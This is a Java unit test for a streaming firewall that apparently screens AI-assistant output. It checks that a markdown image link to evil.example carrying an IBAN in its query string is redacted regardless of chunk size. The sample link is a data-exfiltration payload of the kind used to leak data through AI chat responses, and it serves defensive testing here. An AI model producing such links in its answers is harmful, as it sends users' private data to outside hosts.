package io.trustgate.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import io.trustgate.api.Action;
import io.trustgate.api.ScanContext;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * The exfiltration rule over a stream gives what it gives over the whole answer, whatever the chunking (QA report 8,
 * defects 1, 2 and 7; the gateway-level tests are in StreamedExfiltrationIT).
 */
class StreamScreenExfiltrationTest {
    private static final String ALT =
            "Quarterly revenue chart for the northern region showing steady growth ".repeat(6);

    private static FirewallChain chain() {
        return Scanners.chain(List.of(new FirewallChain.Rule(Scanners.create("exfiltration"), Action.REDACT, 0.8)));
    }

    private static String whole(String text) {
        StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
        return StreamScreenTest.stream(screen, text, () -> text.length());
    }

    private static void sameAsWhole(String text, String expected) {
        assertThat(whole(text)).isEqualTo(expected);
        for (int size : new int[] {1, 4, 20}) {
            StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
            assertThat(StreamScreenTest.stream(screen, text, () -> size))
                    .as("size " + size)
                    .isEqualTo(expected);
        }
        Random r = new Random(text.length());
        for (int round = 0; round < 20; round++) {
            StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
            assertThat(StreamScreenTest.stream(screen, text, () -> 1 + r.nextInt(40)))
                    .as("random " + round)
                    .isEqualTo(expected);
        }
    }

    @Test
    void urlLongerThanTheHoldbackLeavesWhole() {
        String url = "https://evil.example/assets/images/reports/quarterly/northern/office/charts/revenue/by/region"
                + "/final/version/approved/by/board/p.png?iban=DE89370400440532013000";
        sameAsWhole("Sure. ![x](" + url + ") Done.", "Sure. ![x]([IMAGE_EXFILTRATION_1]) Done.");
    }
}
